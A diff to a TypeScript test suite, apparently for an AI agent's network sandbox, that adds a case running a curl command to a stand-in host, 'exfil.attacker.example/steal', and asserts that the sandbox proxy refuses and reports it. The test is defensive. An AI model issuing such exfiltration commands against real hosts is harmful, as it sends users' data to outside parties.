@@ -11,6 +11,7 @@ import {
   mkdirSync,
   mkdtempSync,
   readdirSync,
+  readFileSync,
   symlinkSync,
   writeFileSync,
 } from 'node:fs'
@@ -477,6 +478,11 @@ describe('point 6: the network', () => {
         'a DNS name for loopback',
         `curl -s -m 3 http://localhost:${http.port}/localhost 2>&1`,
       ),
+      bash(
+        'N13',
+        'exfiltrate to a domain',
+        'curl -s -m 3 http://exfil.attacker.example/steal 2>&1',
+      ),
       tool('N11', 'WebFetch the loopback service', 'WebFetch', {
         url: `${url}/webfetch`,
         prompt: 'x',
@@ -492,6 +498,14 @@ describe('point 6: the network', () => {
     // No allowed domains: the web tools are not offered at all.
     expect(run.results.get('N11')?.isError).toBe(true)
     expect(run.results.get('N12')?.isError).toBe(true)
+    // The sandbox proxy's refusals are counted as blocked actions, host by host.
+    const report = JSON.parse(readFileSync(run.outputs['report-file']!, 'utf8')) as {
+      denials: { source: string; target: string; reason: string }[]
+    }
+    const refused = report.denials.filter((d) => d.source === 'sandbox').map((d) => d.target)
+    expect(refused).toContain('exfil.attacker.example')
+    expect(Number(run.outputs['permission-denials'])).toBeGreaterThanOrEqual(refused.length)
+    expect(run.summary).toContain('network request refused by the sandbox')
   })
 
   it('with an allowed domain, commands and WebFetch still reach nothing else', async () => {
